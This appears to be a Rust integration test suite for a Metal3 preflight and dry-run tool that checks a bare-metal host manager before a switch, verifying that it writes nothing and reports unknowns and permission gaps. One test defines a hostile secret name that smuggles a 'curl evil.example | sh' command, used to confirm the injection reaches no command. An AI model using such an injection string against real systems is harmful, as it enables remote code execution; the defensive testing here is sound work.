//! What a switch would meet, as users ask for it.

use std::collections::{BTreeMap, BTreeSet};
use std::fmt::Debug;
use std::sync::Arc;
use std::time::Duration;

use k8s_openapi::NamespaceResourceScope;
use k8s_openapi::api::apps::v1::Deployment;
use k8s_openapi::api::core::v1::{ConfigMap, Namespace, Secret};
use kube::api::{Patch, PatchParams, PostParams};
use kube::{Api, Resource};
use metal3_api::catalog;
use metal3_api::metal3::v1alpha1::{BareMetalHost, HostClaim, HostDeployPolicy};
use metal3_manager::preflight::{Surroundings, parse};
use metal3_runtime::metrics::Metrics;
use metal3_sim_cluster::Cluster;
use metal3_sim_faults::{Fault, Plan, Rule};
use metal3_sim_ironic::{Ironic, Options};
use serde::Serialize;
use serde::de::DeserializeOwned;
use serde_json::{Value, json};

use crate::environment::{NAMESPACE, TestCluster, options, until};
use crate::hosts::{self, CONTROLLERS, enrol, install_tls, products, state, wired};

/// Where the Go manager's manifest mounts a login of Ironic.
const LOGIN: &str = "/opt/metal3/auth/ironic";

async fn go_host_manager(world: &TestCluster, endpoint: &str, login: &str, argument: &str) {
    namespace(world, PLACE).await;
    let config = json!({ "metadata": { "name": "ironic" }, "data": { "IRONIC_ENDPOINT": endpoint } });
    create_in_place::<ConfigMap>(world, config).await;
    let container = json!({ "name": "manager", "image": "quay.io/metal3-io/baremetal-operator:v0.12.1",
        "args": ["--enable-leader-election", "--webhook-port=9443", argument], "envFrom": [{ "configMapRef": { "name": "ironic" } }],
        "volumeMounts": [{ "name": "login", "mountPath": login }] });
    let deployment = json!({ "metadata": { "name": "baremetal-operator-controller-manager" },
        "spec": { "replicas": 1, "selector": { "matchLabels": { "a": "b" } },
            "template": { "metadata": { "labels": { "a": "b" } }, "spec": { "containers": [container] } } } });
    create_in_place::<Deployment>(world, deployment).await;
}

async fn namespace(world: &TestCluster, name: &str) {
    let namespace = serde_json::from_value(json!({ "metadata": { "name": name } })).unwrap();
    let namespaces: Api<Namespace> = Api::all(world.cluster.client("installer"));
    namespaces.create(&PostParams::default(), &namespace).await.unwrap();
}

/// Where the manifests of the Go manager install it.
const PLACE: &str = metal3_runtime::guard::HOSTS.0;

fn in_place<K: Resource<DynamicType = (), Scope = NamespaceResourceScope>>(world: &TestCluster) -> Api<K> {
    Api::namespaced(world.cluster.client("installer"), PLACE)
}

async fn create_in_place<K>(world: &TestCluster, object: Value)
where
    K: Resource<DynamicType = (), Scope = NamespaceResourceScope> + Clone + Debug + Serialize + DeserializeOwned,
{
    let object: K = serde_json::from_value(object).unwrap();
    in_place(world).create(&PostParams::default(), &object).await.unwrap();
}

async fn answer(world: &TestCluster, line: &str) -> (String, u8) {
    let (wanted, _) = parse(line.split_whitespace().map(str::to_owned)).unwrap();
    wanted.run(&world.cluster.client("user"), None).await.unwrap()
}

/// The same with a dry run, which finds this Ironic if one is given.
async fn answer_with_dry_run(world: &TestCluster, ironic: Option<&Ironic>) -> (String, u8) {
    answer_to(world, ironic, &[]).await
}

async fn answer_to(world: &TestCluster, ironic: Option<&Ironic>, arguments: &[&str]) -> (String, u8) {
    install_tls();
    let set = |name: &str| (name == "IRONIC_ENDPOINT").then(|| "https://192.0.2.9:6385".to_owned());
    let surroundings = Surroundings {
        clients: world.clients("user", &Metrics::new()),
        clock: Arc::clone(&world.clock),
        variable: if ironic.is_some() { set } else { |_| None },
        ironic: ironic.map(|ironic| ironic.client().unwrap()),
    };
    let before = changes(ironic);
    let arguments = arguments.iter().map(|argument| (*argument).to_owned());
    let (wanted, _) = parse(arguments).unwrap();
    let answer = wanted
        .run(&world.cluster.client("user"), Some(&surroundings))
        .await
        .unwrap();
    for cluster in [&world.cluster, &world.workload] {
        assert_eq!(writes_of_user(cluster), BTreeSet::new());
    }
    assert_eq!(changes(ironic), before, "it only reads from Ironic");
    answer
}

/// Requests that are no reads, by kind.
fn changes(ironic: Option<&Ironic>) -> BTreeMap<String, u64> {
    let mut changes = BTreeMap::new();
    for (request, number) in ironic
        .map(|ironic| ironic.audit())
        .iter()
        .flat_map(|audit| audit.counts())
    {
        if request.0 != "GET" {
            changes.insert(format!("{request:?}"), number);
        }
    }
    changes
}

fn writes_of_user(cluster: &Cluster) -> BTreeSet<&'static str> {
    let audit = cluster.audit();
    let verbs = audit.counts().filter(|((user, ..), _)| user == "user");
    let verbs = verbs.map(|((_, verb, _), _)| *verb);
    // Discovery is another kind of request.
    verbs
        .filter(|verb| !["get", "list", "watch", "other"].contains(verb))
        .collect()
}

/// A host that is to be registered, with a login that may be used, under a Go manager.
async fn new_host() -> TestCluster {
    let world = live_installation("https://192.0.2.9:6385", LOGIN, "labelled").await;
    let secret = json!({ "metadata": { "name": "labelled", "labels": { "environment.metal3.io": "baremetal" } },
        "data": { "username": "YWRtaW4=", "password": "aHVudGVyMg==" } });
    world.create::<Secret>(secret).await;
    world
}

#[tokio::test(start_paused = true)]
async fn first_changes_of_the_controllers_are_named_and_nothing_is_written() {
    let world = new_host().await;
    let ironic = Ironic::start(Options::new(1, Arc::clone(&world.clock)));
    let (text, code) = answer_with_dry_run(&world, Some(&ironic)).await;
    assert_eq!(code, 0, "{text}");
    let line = format!("- patch BareMetalHost: metadata.finalizers ({NAMESPACE}/new)\n");
    assert!(
        text.contains("First, this program would (") && text.contains(&line),
        "{text}"
    );
    assert!(!text.contains("hunter2") && !text.contains("aHVudGVyMg"), "{text}");
    // What follows the finalizer, as if that had been written.
    assert!(text.contains("- patch status BareMetalHost: "), "{text}");
    let (again, _) = answer_with_dry_run(&world, Some(&ironic)).await;
    assert_eq!(again, text, "it is the same each time");
}

/// Nothing is said to be left undone that was not looked at.
#[tokio::test(start_paused = true)]
async fn dry_run_that_its_limit_ends_says_that_more_may_follow() {
    let world = new_host().await;
    let ironic = Ironic::start(Options::new(1, Arc::clone(&world.clock)));
    let (text, _) = answer_to(&world, Some(&ironic), &["--dry-run=1s"]).await;
    assert!(text.contains("it was still at work after 1 s"), "{text}");
    let (text, _) = answer_with_dry_run(&world, Some(&ironic)).await;
    assert!(!text.contains("still at work"), "{text}");
}

async fn edit(world: &TestCluster, spec: Value) {
    let (params, hosts) = (PatchParams::default(), world.api::<BareMetalHost>());
    let change = Patch::Merge(json!({ "spec": spec }));
    hosts.patch("one", &params, &change).await.unwrap();
}

/// The arguments of the Deployment are those of the dry run: without the first, no fake host is accepted.
#[tokio::test(start_paused = true)]
async fn host_at_rest_gets_nothing_and_one_with_a_new_image_an_order() {
    install_tls();
    let world = hosts::world().await;
    let ironic = Ironic::start(Options::new(1, Arc::clone(&world.clock)));
    enrol(&world).await;
    let metal = wired(&world, &ironic, CONTROLLERS).await;
    let replica = world.start_options("a", options(CONTROLLERS), Some(metal), products());
    until("available", async || state(&world).await == "available").await;
    tokio::time::sleep(Duration::from_secs(300)).await;
    replica.end().await;
    go_host_manager(&world, "https://192.0.2.9:6385", "/tmp/cert", "--lab-fake-hardware").await;

    let (text, _) = answer_with_dry_run(&world, Some(&ironic)).await;
    assert!(text.contains("First, this program would (0):\n\n"), "{text}");
    edit(
        &world,
        json!({ "online": true, "image": { "url": "http://192.0.2.9/i.iso", "format": "live-iso" } }),
    )
    .await;
    let (text, _) = answer_with_dry_run(&world, Some(&ironic)).await;
    let is_order = |line: &str| line.starts_with("- order ") && line.ends_with(&format!("({NAMESPACE}/one)"));
    assert!(text.lines().any(is_order), "{text}");
    let writes = "- patch status BareMetalHost: ";
    assert!(text.contains(writes), "the record of the order comes before it: {text}");
}

#[tokio::test(start_paused = true)]
async fn what_a_dry_run_cannot_see_is_not_known_and_not_nothing() {
    let world = new_host().await;
    let (text, code) = answer_with_dry_run(&world, None).await;
    let unknown = "- not known: what hosts would do, because IRONIC_ENDPOINT is not set";
    assert!(code == 0 && text.contains(unknown), "{text}");

    let ironic = Ironic::start(Options::new(1, Arc::clone(&world.clock)));
    let forbidden = Plan::none().with(Rule::random(1000, Fault::refused(403)).resource("secrets"));
    world.cluster.inject_for(&["user"], forbidden);
    let (text, code) = answer_with_dry_run(&world, Some(&ironic)).await;
    assert_eq!(code, 5, "{text}");
    assert!(text.contains("First, this program would (0)"), "{text}");
    assert!(
        text.contains("- not known: what hosts would do, because Secret could not be read"),
        "{text}"
    );
}

/// A Go host manager with its settings, a registered host, and one that is not registered yet.
async fn live_installation(endpoint: &str, login: &str, secret: &str) -> TestCluster {
    let world = TestCluster::empty().await;
    world.cluster.install(&catalog::definitions()).unwrap();
    go_host_manager(&world, endpoint, login, "--dev").await;
    world.create::<Secret>(json!({ "metadata": { "name": "bmc" } })).await;
    let bmc = json!({ "address": "redfish://192.0.2.1/x", "credentialsName": secret });
    let host = json!({ "metadata": { "name": "new" }, "spec": { "online": false, "bmc": bmc } });
    world.create::<BareMetalHost>(host).await;
    world
}

#[tokio::test(start_paused = true)]
async fn what_stops_a_switch_is_named_with_its_cure_and_nothing_is_written() {
    let world = live_installation("http://192.0.2.9:6385", LOGIN, "bmc").await;
    let (text, code) = answer(&world, "").await;
    assert_eq!(code, 4, "{text}");
    for part in [
        "From the Go managers to this program: no",
        &format!("hosts: Go manager {PLACE}/baremetal-operator-controller-manager, 1 replicas"),
        "IRONIC_ENDPOINT begins with http://",
        &format!("kubectl label secret --namespace {NAMESPACE} bmc environment.metal3.io=baremetal"),
    ] {
        assert!(text.contains(part), "{part}: {text}");
    }
    assert_eq!(writes_of_user(&world.cluster), BTreeSet::new());
}

#[tokio::test(start_paused = true)]
async fn right_that_is_missing_is_named_and_the_decision_is_not_known() {
    let world = live_installation("https://192.0.2.9:6385", LOGIN, "bmc").await;
    let forbidden = Plan::none().with(Rule::random(1000, Fault::refused(403)).resource("baremetalhosts"));
    world.cluster.inject_for(&["user"], forbidden);
    let (text, code) = answer(&world, "").await;
    assert_eq!(code, 5, "{text}");
    assert!(
        text.contains("kubectl auth can-i list baremetalhosts.metal3.io"),
        "{text}"
    );
}

/// A program without the variable serves the hosts of others.
#[tokio::test(start_paused = true)]
async fn list_of_namespaces_stops_the_switch_instead_of_becoming_all_of_them() {
    let world = live_installation("https://192.0.2.9:6385", LOGIN, "").await;
    let (text, code) = answer(&world, "").await;
    assert_eq!(code, 0, "{text}");
    let change = json!({ "data": { "WATCH_NAMESPACE": "a,b" } });
    let maps = in_place::<ConfigMap>(&world);
    maps.patch("ironic", &PatchParams::default(), &Patch::Merge(change))
        .await
        .unwrap();
    let (text, code) = answer(&world, "").await;
    assert_eq!(code, 4, "{text}");
    assert!(text.contains("would serve the objects of all namespaces"), "{text}");
}

/// Without it this program refuses the certificate of Ironic that the Go manager accepts, and every host waits.
#[tokio::test(start_paused = true)]
async fn variable_of_the_certificate_of_ironic_that_is_lost_stops_the_switch() {
    for (value, code) in [("true", 4), ("false", 0)] {
        let world = live_installation("https://192.0.2.9:6385", LOGIN, "").await;
        let change = json!({ "data": { "IRONIC_SKIP_CLIENT_SAN_VERIFY": value } });
        let maps = in_place::<ConfigMap>(&world);
        maps.patch("ironic", &PatchParams::default(), &Patch::Merge(change))
            .await
            .unwrap();
        let (text, found) = answer(&world, "").await;
        assert_eq!(found, code, "{value}: {text}");
        for part in [
            "IRONIC_SKIP_CLIENT_SAN_VERIFY: verification of certificates is complete",
            "give Ironic a certificate for the name that it is asked by",
            "# without IRONIC_SKIP_CLIENT_SAN_VERIFY: ",
        ] {
            assert_eq!(text.contains(part), code == 4, "{value} {part}: {text}");
        }
    }
}

/// A value that is not read may be one of which this program says *no*, or does not start.
#[tokio::test(start_paused = true)]
async fn variable_of_the_certificate_of_ironic_from_a_secret_is_not_known() {
    let one = |name: &str| json!({ "env": [{ "name": name, "valueFrom": { "secretKeyRef": { "name": "trust", "key": "x" } } }] });
    let any = json!({ "envFrom": [{ "configMapRef": { "name": "ironic" } }, { "secretRef": { "name": "trust" } }] });
    let prefixed = json!({ "envFrom": [{ "configMapRef": { "name": "ironic" } }, { "secretRef": { "name": "trust" }, "prefix": "DEPLOY_" }] });
    for (environment, named) in [
        (one("IRONIC_CACERT_FILE"), Some("IRONIC_CACERT_FILE of Deployment")),
        (
            one("IRONIC_CLIENT_CERT_FILE"),
            Some("IRONIC_CLIENT_CERT_FILE of Deployment"),
        ),
        (
            one("IRONIC_SKIP_CLIENT_SAN_VERIFY"),
            Some("IRONIC_SKIP_CLIENT_SAN_VERIFY of Deployment"),
        ),
        (one("IRONIC_CLIENT_TIMEOUT"), None),
        (any, Some("IRONIC_CACERT_FILE, ")),
        (prefixed, None),
    ] {
        let world = live_installation("https://192.0.2.9:6385", LOGIN, "").await;
        let name = "baremetal-operator-controller-manager";
        let deployments = in_place::<Deployment>(&world);
        let deployment = deployments.get(name).await.unwrap();
        let mut container =
            serde_json::to_value(&deployment.spec.unwrap().template.spec.unwrap().containers[0]).unwrap();
        for (member, value) in environment.as_object().unwrap() {
            container[member] = value.clone();
        }
        let change = json!({ "spec": { "template": { "spec": { "containers": [container] } } } });
        let patch = Patch::Merge(change);
        deployments.patch(name, &PatchParams::default(), &patch).await.unwrap();
        let (text, code) = answer(&world, "").await;
        assert_eq!(code, if named.is_some() { 5 } else { 0 }, "{environment}: {text}");
        let mut unread = text.lines().filter(|line| line.starts_with("Not read: "));
        let is_named =
            unread.any(|line| line.contains(named.unwrap_or("Secret trust")) && line.contains("Secret trust"));
        assert_eq!(is_named, named.is_some(), "{environment}: {text}");
    }
}

#[tokio::test(start_paused = true)]
async fn variables_of_a_config_map_that_may_not_be_read_are_not_known() {
    let world = new_host().await;
    let forbidden = Plan::none().with(Rule::random(1000, Fault::refused(403)).resource("configmaps"));
    world.cluster.inject_for(&["user"], forbidden);
    let ironic = Ironic::start(Options::new(1, Arc::clone(&world.clock)));
    let (text, code) = answer_with_dry_run(&world, Some(&ironic)).await;
    assert_eq!(code, 5, "{text}");
    assert!(
        text.contains("WATCH_NAMESPACE") && !text.contains("- patch BareMetalHost"),
        "{text}"
    );
}

#[tokio::test(start_paused = true)]
async fn cluster_api_without_the_version_that_is_read_stops_the_switch() {
    for code in [4, 0] {
        let world = live_installation("https://192.0.2.9:6385", LOGIN, "").await;
        if code == 0 {
            world.cluster.install(&metal3_sim_cluster::cluster_api()).unwrap();
        }
        let manager = json!({ "metadata": { "name": "capm3-controller-manager" }, "spec": { "selector": { "matchLabels": { "a": "b" } }, "template": {
            "metadata": { "labels": { "a": "b" } }, "spec": { "containers": [{ "name": "manager", "image": "quay.io/metal3-io/cluster-api-provider-metal3:v1.10.4" }] } } } });
        let (place, _) = metal3_runtime::guard::CAPM3;
        namespace(&world, place).await;
        let deployments: Api<Deployment> = Api::namespaced(world.cluster.client("installer"), place);
        let manager = serde_json::from_value(manager).unwrap();
        deployments.create(&PostParams::default(), &manager).await.unwrap();
        let (text, found) = answer(&world, "").await;
        assert_eq!(found, code, "{text}");
        assert_eq!(text.contains("clusters.cluster.x-k8s.io: "), code == 4, "{text}");
        assert_eq!(text.contains("upgrade Cluster API to 1.11"), code == 4, "{text}");
    }
}

/// The manifests of the Go manager as they are: an Ironic without a login, and a flag that does nothing here.
#[tokio::test(start_paused = true)]
async fn stock_installation_can_be_switched_and_a_hostile_name_reaches_no_command() {
    let hostile = "bmc?x&curl${IFS}evil.example|sh;";
    let world = live_installation("http://172.22.0.2:6385/v1/", "/tmp/cert", hostile).await;
    let (text, code) = answer(&world, "").await;
    assert_eq!(code, 0, "{text}");
    assert!(text.contains("--dev does nothing"), "{text}");
    assert!(!text.contains("evil.example"), "{text}");
    let audit = world.cluster.audit();
    let mut of_secrets = audit
        .counts()
        .filter(|((user, _, resource), _)| user == "user" && resource.contains("secrets"));
    assert_eq!(of_secrets.next(), None, "no Secret of such a name is asked for");
}

/// It may be one of a fork that serves some objects only.
#[tokio::test(start_paused = true)]
async fn flag_that_no_go_manager_has_is_named_and_makes_the_decision_unknown() {
    let world = TestCluster::empty().await;
    world.cluster.install(&catalog::definitions()).unwrap();
    go_host_manager(&world, "https://192.0.2.9:6385", LOGIN, "--label-selector=a=b").await;
    let (text, code) = answer(&world, "").await;
    assert_eq!(code, 5, "{text}");
    let unknown =
        format!("Not read: what --label-selector of Deployment {PLACE}/baremetal-operator-controller-manager does");
    assert!(text.contains(&unknown) && text.contains("do not copy"), "{text}");
}

/// A policy opens the hosts of its namespace to the claims of others.
#[tokio::test(start_paused = true)]
async fn policies_of_all_namespaces_count_in_the_report_about_one() {
    let world = TestCluster::empty().await;
    world.cluster.install(&catalog::definitions()).unwrap();
    go_host_manager(&world, "https://192.0.2.9:6385", LOGIN, "--hostclaims").await;
    let image = json!({ "url": "http://192.0.2.9/i.iso", "format": "live-iso" });
    let claim = json!({ "metadata": { "name": "c" }, "spec": { "poweredOn": true, "image": image } });
    world.create::<HostClaim>(claim).await;
    let of_namespace = format!("-n {NAMESPACE}");
    let (text, code) = answer(&world, &of_namespace).await;
    assert_eq!(code, 0, "{text}");
    create_in_place::<HostDeployPolicy>(&world, json!({ "metadata": { "name": "p" }, "spec": {} })).await;
    let (text, code) = answer(&world, &of_namespace).await;
    assert!(
        code == 4 && text.contains(&format!("HostClaim {NAMESPACE}/c")),
        "{text}"
    );
    let forbidden = Plan::none().with(Rule::random(1000, Fault::refused(403)).resource("hostdeploypolicies"));
    world.cluster.inject_for(&["user"], forbidden);
    let (text, code) = answer(&world, &of_namespace).await;
    assert!(
        code == 5 && text.contains("can-i list hostdeploypolicies.metal3.io"),
        "{text}"
    );
}

/// Whether the Machine of a deleted machine exists is not known without it.
#[tokio::test(start_paused = true)]
async fn list_of_machines_that_may_not_be_read_makes_the_decision_unknown() {
    let world = live_installation("https://192.0.2.9:6385", LOGIN, "").await;
    world.cluster.install(&metal3_sim_cluster::cluster_api()).unwrap();
    let (text, code) = answer(&world, "").await;
    assert_eq!(code, 0, "{text}");
    let forbidden = Plan::none().with(Rule::random(1000, Fault::refused(403)).resource("machines"));
    world.cluster.inject_for(&["user"], forbidden);
    let (text, code) = answer(&world, "").await;
    assert!(
        code == 5 && text.contains("can-i list machines.cluster.x-k8s.io"),
        "{text}"
    );
}

#[tokio::test(start_paused = true)]
async fn way_back_and_output_for_programs() {
    let world = live_installation("https://192.0.2.9:6385", LOGIN, "bmc").await;
    let (text, code) = answer(&world, "--back --to 1.13 -o json").await;
    let report: Value = serde_json::from_str(&text).unwrap();
    assert_eq!(
        (code, &report["decision"], &report["direction"]["back"]),
        (0, &json!("go"), &json!("1.13")),
        "{text}"
    );
    assert_eq!(report["managers"][0]["series"], "0.12");
}

#[test]
fn invalid_arguments_are_named() {
    for (line, part) in [
        ("--to 1.13", "add --back"),
        ("--back --to newest", "is no series"),
        ("--back --to 0.14", "is no series"),
        ("--force", "--force"),
        ("-o xml", "-o \"xml\""),
        ("--dry-run soon", "is no time such as 1m"),
    ] {
        let error = parse(line.split_whitespace().map(str::to_owned)).unwrap_err();
        assert!(format!("{error:#}").contains(part), "{line}: {error:#}");
    }
}
